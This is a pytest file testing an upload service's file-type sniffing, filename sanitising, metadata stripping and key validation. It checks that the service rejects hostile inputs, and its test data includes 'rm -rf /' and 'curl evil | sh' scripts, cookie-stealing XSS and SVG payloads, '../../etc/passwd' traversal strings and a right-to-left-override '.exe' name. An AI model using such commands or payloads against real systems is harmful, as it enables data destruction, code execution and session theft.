"""Tests for twinspace_kernel.service.uploads using real files built with Pillow/zipfile/wave."""

from __future__ import annotations

import io
import os
import wave
import zipfile
from pathlib import Path

import pytest
from PIL import Image, PngImagePlugin

from twinspace_kernel.service import uploads
from twinspace_kernel.service.uploads import (
    DOCX,
    ODP,
    ODS,
    ODT,
    PPTX,
    XLSX,
    FileStore,
    InvalidKey,
    StoredFile,
    UploadRejected,
    safe_filename,
    sniff,
)

MIB = 1024 * 1024
RED = (255, 0, 0)
BLUE = (0, 0, 255)

# Minimal but real binaries: ELF64 header and a DOS/PE stub.
ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 8 + b"\x02\x00\x3e\x00" + b"\x00" * 100
PE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + b"\x00" * 46 + b"PE\x00\x00" * 4
PDF = b"%PDF-1.7\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"


# --------------------------------------------------------------------------- builders


def _two_colour(size: tuple[int, int]) -> Image.Image:
    """Left half red, right half blue: lets tests see which way an image was rotated."""
    image = Image.new("RGB", size, BLUE)
    image.paste(RED, (0, 0, size[0] // 2, size[1]))
    return image


def _jpeg_with_gps(size: tuple[int, int] = (1000, 600), orientation: int = 6) -> bytes:
    exif = Image.Exif()
    exif[0x0112] = orientation  # Orientation
    exif[0x010F] = "SchoolCam"  # Make
    exif[0x0132] = "2024:05:01 10:00:00"  # DateTime
    gps = exif.get_ifd(0x8825)
    gps[0x0001] = "N"
    gps[0x0002] = (48.0, 51.0, 29.6)
    gps[0x0003] = "E"
    gps[0x0004] = (2.0, 17.0, 40.2)
    gps[0x0012] = "WGS-84"
    gps[0x001B] = b"ASCII\x00\x00\x00GPS"  # GPSProcessingMethod
    out = io.BytesIO()
    _two_colour(size).save(out, "JPEG", exif=exif, quality=90, comment=b"secret comment")
    return out.getvalue()


def _image_bytes(fmt: str, size: tuple[int, int] = (64, 48), mode: str = "RGB", **kw) -> bytes:
    image = Image.new(mode, size, (10, 200, 30) if mode == "RGB" else (10, 200, 30, 128))
    out = io.BytesIO()
    image.save(out, fmt, **kw)
    return out.getvalue()


def _zip(members: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name, content in members.items():
            compress = zipfile.ZIP_STORED if name == "mimetype" else zipfile.ZIP_DEFLATED
            archive.writestr(name, content, compress_type=compress)
    return out.getvalue()


def _ooxml(folder: str) -> bytes:
    return _zip(
        {
            "[Content_Types].xml": b'<?xml version="1.0"?><Types/>',
            "_rels/.rels": b"<Relationships/>",
            f"{folder}/document.xml": b"<doc/>",
        }
    )


def _odf(mimetype: str) -> bytes:
    return _zip(
        {"mimetype": mimetype.encode(), "content.xml": b"<office:document-content/>",
         "META-INF/manifest.xml": b"<manifest/>"}
    )  # fmt: skip


def _wav() -> bytes:
    out = io.BytesIO()
    with wave.open(out, "wb") as w:
        w.setnchannels(1)
        w.setsampwidth(2)
        w.setframerate(8000)
        w.writeframes(b"\x00\x01" * 800)
    return out.getvalue()


def _blob_files(root: Path) -> list[Path]:
    return sorted(p for p in root.rglob("*") if p.is_file())


@pytest.fixture
def store(tmp_path: Path) -> FileStore:
    return FileStore(tmp_path / "blobs", max_bytes=20 * MIB)


# --------------------------------------------------------------------------- sniff


@pytest.mark.parametrize(
    ("data", "expected"),
    [
        (_image_bytes("PNG"), "image/png"),
        (_image_bytes("JPEG"), "image/jpeg"),
        (_image_bytes("GIF"), "image/gif"),
        (_image_bytes("WEBP"), "image/webp"),
        (PDF, "application/pdf"),
        (_ooxml("word"), DOCX),
        (_ooxml("xl"), XLSX),
        (_ooxml("ppt"), PPTX),
        (_odf(ODT), ODT),
        (_odf(ODS), ODS),
        (_odf(ODP), ODP),
        (_odf("application/x-evil"), "application/zip"),
        (_zip({"notes.txt": b"hello", "word/not-office.txt": b"x"}), "application/zip"),
        (b"PK\x03\x04" + b"\x00" * 40, "application/zip"),
        (b"ID3\x04\x00\x00\x00\x00\x00\x00" + b"\x00" * 64, "audio/mpeg"),
        (b"\xff\xfb\x90\x64" + b"\x00" * 64, "audio/mpeg"),
        (b"\xff\xf1\x50\x80" + b"\x00" * 64, "application/octet-stream"),  # ADTS AAC, not MP3
        (b"\x00\x00\x00\x18ftypisom\x00\x00\x02\x00isomiso2", "video/mp4"),
        (b"\x00\x00\x00\x1cftypM4A \x00\x00\x00\x00M4A isom", "audio/mp4"),
        (b"OggS\x00\x02" + b"\x00" * 40, "audio/ogg"),
        (_wav(), "audio/wav"),
        ("Name;Grade\nÉlodie;5\n".encode(), "text/plain"),
        (b"\xef\xbb\xbfwith BOM", "text/plain"),
        (b"<!DOCTYPE html><html><script>alert(1)</script></html>", "text/plain"),
        (b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', "text/plain"),
        (b'<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml"/>', "text/plain"),
        (b"<script>alert(document.cookie)</script>", "text/plain"),
        (b"text with a NUL\x00 byte", "application/octet-stream"),
        ("caf\u00e9".encode("latin-1"), "application/octet-stream"),
        (ELF, "application/x-executable"),
        (PE, "application/x-msdownload"),
        (b"#!/bin/sh\nrm -rf /\n", "text/x-script"),
        (b"\xef\xbb\xbf#!/usr/bin/env python3\n", "text/x-script"),
    ],
)
def test_sniff(data: bytes, expected: str) -> None:
    assert sniff(data) == expected


def test_sniff_never_reports_renderable_markup_types() -> None:
    samples = [b"<html>", b"<svg/>", b"<?xml?>", b"<script>", b"<HTML><BODY>", b"<!-- -->"]
    for sample in samples:
        assert sniff(sample) not in {"text/html", "image/svg+xml", "text/xml", "text/javascript"}
        assert sniff(sample) == "text/plain"


# --------------------------------------------------------------------------- safe_filename


@pytest.mark.parametrize(
    ("raw", "expected"),
    [
        ("../../etc/passwd", "passwd"),
        ("..\\..\\windows\\system32\\boot.ini", "boot.ini"),
        ("C:\\Users\\pupil\\Desktop\\report.pdf", "report.pdf"),
        ("/var/www/../../secret.txt", "secret.txt"),
        ("..", "file"),
        ("../..", "file"),
        ("", "file"),
        ("///", "file"),
        ("...", "file"),
        (".bashrc", "bashrc"),
        ("...hidden.txt", "hidden.txt"),
        ("a..b....txt", "a.b.txt"),
        ("evil\x00.jpg", "evil.jpg"),
        ("tab\tand\nnewline.txt", "tabandnewline.txt"),
        ("invoice\u202egpj.exe", "invoicegpj.exe"),  # RIGHT-TO-LEFT OVERRIDE removed
        ("Ελληνικά σχέδιο.docx", "Ελληνικά σχέδιο.docx"),
        ("Žižkov – výlet 2024.pdf", "Žižkov _ výlet 2024.pdf"),
        ("日本語のファイル.txt", "日本語のファイル.txt"),
        ('<script>alert("x")</script>.html', "script_.html"),  # "/" is a separator
        ('a<b>"c":d|e?*.txt', "a_b__c__d_e__.txt"),  # Windows-reserved characters
        ("trailing dots...", "trailing dots"),
        ("  spaced   out  .txt", "spaced out .txt"),
    ],
)
def test_safe_filename(raw: str, expected: str) -> None:
    assert safe_filename(raw) == expected


def test_safe_filename_truncates_keeping_extension() -> None:
    out = safe_filename("α" * 300 + ".pptx")
    assert len(out) == 120
    assert out.endswith(".pptx")
    assert out.startswith("ααα")
    assert len(safe_filename("x" * 500)) == 120


# --------------------------------------------------------------------------- UploadRejected


def test_upload_rejected_carries_status_and_message() -> None:
    exc = UploadRejected(415, "Nope.")
    assert (exc.status, exc.message, str(exc)) == (415, "Nope.", "Nope.")


# --------------------------------------------------------------------------- store_document


def test_oversize_document_is_413_with_human_numbers(store: FileStore) -> None:
    data = b"a" * int(23.4 * MIB)
    with pytest.raises(UploadRejected) as info:
        store.store_document(data, "big.txt")
    assert info.value.status == 413
    assert str(info.value) == "The file is 23.4 MB; the limit is 20 MB."
    assert _blob_files(store.root) == []


def test_one_byte_over_limit_never_reads_as_equal(store: FileStore) -> None:
    with pytest.raises(UploadRejected) as info:
        store.store_document(b"a" * (20 * MIB + 1), "x.txt")
    assert info.value.message == "The file is 20.1 MB; the limit is 20 MB."


def test_small_limits_use_small_units(tmp_path: Path) -> None:
    small = FileStore(tmp_path, max_bytes=2048)
    with pytest.raises(UploadRejected, match=r"^The file is 2\.1 KB; the limit is 2 KB\.$"):
        small.store_document(b"a" * 2100, "x.txt")
    tiny = FileStore(tmp_path, max_bytes=10)
    with pytest.raises(UploadRejected, match=r"^The file is 11 bytes; the limit is 10 bytes\.$"):
        tiny.store_document(b"a" * 11, "x.txt")


def test_empty_file_is_400(store: FileStore) -> None:
    with pytest.raises(UploadRejected) as info:
        store.store_document(b"", "empty.txt")
    assert info.value.status == 400


@pytest.mark.parametrize("data", [ELF, PE, b"#!/bin/bash\ncurl evil | sh\n"])
def test_executables_are_refused_with_415(store: FileStore, data: bytes) -> None:
    with pytest.raises(UploadRejected) as info:
        store.store_document(data, "homework.pdf")
    assert info.value.status == 415
    assert "can't be uploaded" in info.value.message
    assert _blob_files(store.root) == []


def test_unknown_binary_is_refused_listing_accepted_types(store: FileStore) -> None:
    with pytest.raises(UploadRejected) as info:
        store.store_document(b"\x00\x01\x02\x03 binary junk", "data.bin")
    assert info.value.status == 415
    assert "Accepted: PDF, Word" in info.value.message


def test_html_document_is_stored_as_plain_text(store: FileStore) -> None:
    html = b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"
    stored = store.store_document(html, "page.html")
    assert stored.content_type == "text/plain"
    assert stored.filename == "page.html"
    assert store.open(stored.key).read_bytes() == html


@pytest.mark.parametrize(
    ("data", "name", "content_type"),
    [
        (PDF, "Worksheet 3.pdf", "application/pdf"),
        (_ooxml("word"), "essay.docx", DOCX),
        (_odf(ODS), "grades.ods", ODS),
        (_wav(), "song.wav", "audio/wav"),
        (b"plain notes\n", "notes.txt", "text/plain"),
    ],
)
def test_store_document_round_trip(
    store: FileStore, data: bytes, name: str, content_type: str
) -> None:
    stored = store.store_document(data, name)
    assert isinstance(stored, StoredFile)
    assert (stored.content_type, stored.size, stored.filename) == (content_type, len(data), name)
    assert (stored.width, stored.height, stored.thumb_key) == (None, None, None)
    path = store.open(stored.key)
    assert path.read_bytes() == data
    # Layout is root/<first 2 hex of key>/<key>; the user's name is never on disk.
    assert path == store.root / stored.key[:2] / stored.key
    assert all(name not in str(p) for p in _blob_files(store.root))


def test_pdf_content_wins_over_misleading_name(store: FileStore) -> None:
    stored = store.store_document(PDF, "photo.jpg")
    assert stored.content_type == "application/pdf"


def test_failed_write_leaves_no_temp_file(
    store: FileStore, monkeypatch: pytest.MonkeyPatch
) -> None:
    def boom(src: str, dst: str) -> None:
        raise OSError("disk full")

    monkeypatch.setattr(uploads.os, "replace", boom)
    with pytest.raises(OSError, match="disk full"):
        store.store_document(b"hello", "a.txt")
    assert _blob_files(store.root) == []


# --------------------------------------------------------------------------- store_image


def test_store_image_strips_exif_gps_and_applies_orientation(store: FileStore) -> None:
    original = _jpeg_with_gps(size=(1000, 600), orientation=6)
    # Preconditions: the upload really carries the private data we want gone.
    with Image.open(io.BytesIO(original)) as src:
        assert src.getexif().get_ifd(0x8825)[0x0002] == (48.0, 51.0, 29.6)
        assert src.getexif()[0x0112] == 6
    assert b"Exif" in original and b"GPS" in original and b"secret comment" in original

    stored = store.store_image(original, "IMG_0001.JPG")

    data = store.open(stored.key).read_bytes()
    assert b"Exif" not in data
    assert b"GPS" not in data
    assert b"SchoolCam" not in data
    assert b"secret comment" not in data
    assert b"WGS-84" not in data
    with Image.open(io.BytesIO(data)) as out:
        assert out.format == "JPEG"
        assert len(out.getexif()) == 0
        assert out.getexif().get_ifd(0x8825) == {}
        assert "exif" not in out.info and "comment" not in out.info
        assert "icc_profile" not in out.info
        # Orientation 6 = rotate 90° clockwise to display: 1000x600 becomes 600x1000 and the
        # red left half ends up on top.
        assert out.size == (600, 1000)
        top = out.convert("RGB").getpixel((300, 100))
        bottom = out.convert("RGB").getpixel((300, 900))
        assert top[0] > 200 and top[2] < 60
        assert bottom[2] > 200 and bottom[0] < 60
    assert (stored.width, stored.height) == (600, 1000)
    assert stored.content_type == "image/jpeg"
    assert stored.filename == "IMG_0001.JPG"
    assert stored.size == len(data)


def test_store_image_makes_small_clean_jpeg_thumbnail(store: FileStore) -> None:
    stored = store.store_image(_jpeg_with_gps(size=(1000, 600)), "trip.jpg")
    assert stored.thumb_key is not None and stored.thumb_key != stored.key
    thumb_bytes = store.open(stored.thumb_key).read_bytes()
    assert b"Exif" not in thumb_bytes and b"GPS" not in thumb_bytes
    with Image.open(io.BytesIO(thumb_bytes)) as thumb:
        assert thumb.format == "JPEG"
        assert max(thumb.size) <= 320
        assert thumb.size == (192, 320)
        assert len(thumb.getexif()) == 0


def test_store_image_custom_thumb_size(store: FileStore) -> None:
    stored = store.store_image(_image_bytes("PNG", size=(500, 500)), "sq.png", thumb_size=(64, 64))
    assert stored.thumb_key is not None
    with Image.open(store.open(stored.thumb_key)) as thumb:
        assert thumb.size == (64, 64)


def test_png_stays_png_keeps_alpha_and_loses_text_and_icc(store: FileStore) -> None:
    info = PngImagePlugin.PngInfo()
    info.add_text("Comment", "home address: 1 Secret Lane")
    info.add_text("Author", "Pupil Name")
    exif = Image.Exif()
    exif[0x010F] = "PhoneMaker"
    data = _image_bytes(
        "PNG", size=(80, 40), mode="RGBA", pnginfo=info, exif=exif, icc_profile=b"\x00" * 128
    )
    assert b"Secret Lane" in data and b"PhoneMaker" in data

    stored = store.store_image(data, "drawing.png")

    out_bytes = store.open(stored.key).read_bytes()
    assert b"Secret Lane" not in out_bytes and b"Pupil Name" not in out_bytes
    assert b"PhoneMaker" not in out_bytes
    assert b"eXIf" not in out_bytes and b"iCCP" not in out_bytes and b"tEXt" not in out_bytes
    with Image.open(io.BytesIO(out_bytes)) as out:
        assert out.format == "PNG"
        assert out.mode == "RGBA"
        assert out.getpixel((5, 5))[3] == 128
        assert len(out.getexif()) == 0
    assert stored.content_type == "image/png"
    with Image.open(store.open(stored.thumb_key or "")) as thumb:
        assert thumb.format == "JPEG"


def test_gif_becomes_png_of_first_frame(store: FileStore) -> None:
    frames = [Image.new("P", (30, 20), colour) for colour in (1, 2)]
    out = io.BytesIO()
    frames[0].save(out, "GIF", save_all=True, append_images=frames[1:], duration=100, loop=0)
    stored = store.store_image(out.getvalue(), "anim.gif")
    assert stored.content_type == "image/png"
    assert stored.filename == "anim.png"
    with Image.open(store.open(stored.key)) as image:
        assert image.format == "PNG"
        assert image.size == (30, 20)


def test_webp_stays_webp_without_exif(store: FileStore) -> None:
    exif = Image.Exif()
    exif[0x010F] = "WebpCam"
    data = _image_bytes("WEBP", size=(50, 50), exif=exif)
    assert b"WebpCam" in data
    stored = store.store_image(data, "pic.webp")
    out_bytes = store.open(stored.key).read_bytes()
    assert b"WebpCam" not in out_bytes and b"EXIF" not in out_bytes
    with Image.open(io.BytesIO(out_bytes)) as image:
        assert image.format == "WEBP"
        assert len(image.getexif()) == 0
    assert stored.content_type == "image/webp"


def test_pdf_named_jpg_is_415_for_images(store: FileStore) -> None:
    with pytest.raises(UploadRejected) as info:
        store.store_image(PDF, "x.jpg")
    assert info.value.status == 415
    assert "PNG, JPEG, GIF or WebP" in info.value.message
    assert _blob_files(store.root) == []


def test_svg_named_png_is_415_for_images(store: FileStore) -> None:
    with pytest.raises(UploadRejected) as info:
        store.store_image(b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', "a.png")
    assert info.value.status == 415


def test_oversize_image_is_413(tmp_path: Path) -> None:
    small = FileStore(tmp_path, max_bytes=1 * MIB)
    data = _jpeg_with_gps() + b"\x00" * (2 * MIB)
    with pytest.raises(UploadRejected) as info:
        small.store_image(data, "huge.jpg")
    assert info.value.status == 413
    assert info.value.message.startswith("The file is 2.")
    assert info.value.message.endswith("; the limit is 1 MB.")


@pytest.mark.parametrize(
    "data",
    [
        _jpeg_with_gps()[:2000],  # truncated mid-scan
        b"\xff\xd8\xff\xe0" + b"\x13\x37" * 500,  # JPEG magic, garbage body
        b"\x89PNG\r\n\x1a\n" + b"\x00" * 100,  # PNG magic, no chunks
        b"GIF89a" + b"\xff" * 10,
    ],
)
def test_corrupt_image_is_400(store: FileStore, data: bytes) -> None:
    with pytest.raises(UploadRejected) as info:
        store.store_image(data, "broken.jpg")
    assert info.value.status == 400
    assert info.value.message == "The file is not a readable image."
    assert _blob_files(store.root) == []


def test_pixel_bomb_is_refused_before_decoding(
    store: FileStore, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(uploads, "MAX_IMAGE_PIXELS", 1000)
    with pytest.raises(UploadRejected) as info:
        store.store_image(_image_bytes("PNG", size=(100, 100)), "bomb.png")
    assert info.value.status == 400
    assert "100×100 pixels" in info.value.message


def test_thumbnail_write_failure_removes_main_blob(
    store: FileStore, monkeypatch: pytest.MonkeyPatch
) -> None:
    real_write = FileStore._write_new
    calls: list[int] = []

    def flaky(self: FileStore, data: bytes) -> str:
        calls.append(len(data))
        if len(calls) == 2:
            raise OSError("disk full while writing thumbnail")
        return real_write(self, data)

    monkeypatch.setattr(FileStore, "_write_new", flaky)
    with pytest.raises(OSError, match="thumbnail"):
        store.store_image(_jpeg_with_gps(), "a.jpg")
    assert len(calls) == 2
    assert _blob_files(store.root) == []


# --------------------------------------------------------------------------- open / delete


@pytest.mark.parametrize(
    "key",
    [
        "../../etc/passwd",
        "..",
        "/etc/passwd",
        "ab/../../../etc/passwd",
        "a" * 31,
        "a" * 33,
        "A" * 32,
        "a" * 32 + "\n",
        "a" * 30 + "/a",
        "g" * 32,
        "",
        "a" * 16 + "\x00" + "a" * 15,
    ],
)
def test_open_refuses_malformed_keys(store: FileStore, key: str) -> None:
    with pytest.raises(InvalidKey):
        store.open(key)
    with pytest.raises(InvalidKey):
        store.delete(key)


def test_invalid_key_is_a_file_not_found_error() -> None:
    # Handlers that map FileNotFoundError to 404 therefore also cover garbage keys.
    assert issubclass(InvalidKey, FileNotFoundError)


def test_open_missing_key_and_idempotent_delete(store: FileStore) -> None:
    stored = store.store_document(b"bye", "bye.txt")
    path = store.open(stored.key)
    assert path.is_file()
    store.delete(stored.key)
    assert not path.exists()
    store.delete(stored.key)  # second delete is a no-op
    with pytest.raises(FileNotFoundError) as info:
        store.open(stored.key)
    assert not isinstance(info.value, InvalidKey)


def test_keys_are_unique_even_for_identical_content(store: FileStore) -> None:
    first = store.store_document(b"same", "a.txt")
    second = store.store_document(b"same", "a.txt")
    assert first.key != second.key
    store.delete(first.key)
    assert store.open(second.key).read_bytes() == b"same"


def test_temp_files_are_never_left_or_served(store: FileStore) -> None:
    for i in range(3):
        store.store_document(f"doc {i}".encode(), "d.txt")
    names = [p.name for p in _blob_files(store.root)]
    assert len(names) == 3
    assert not any(name.startswith(".tmp-") for name in names)
    assert all(len(name) == 32 for name in names)
    assert all(os.path.basename(os.path.dirname(p)) == p.name[:2] for p in _blob_files(store.root))
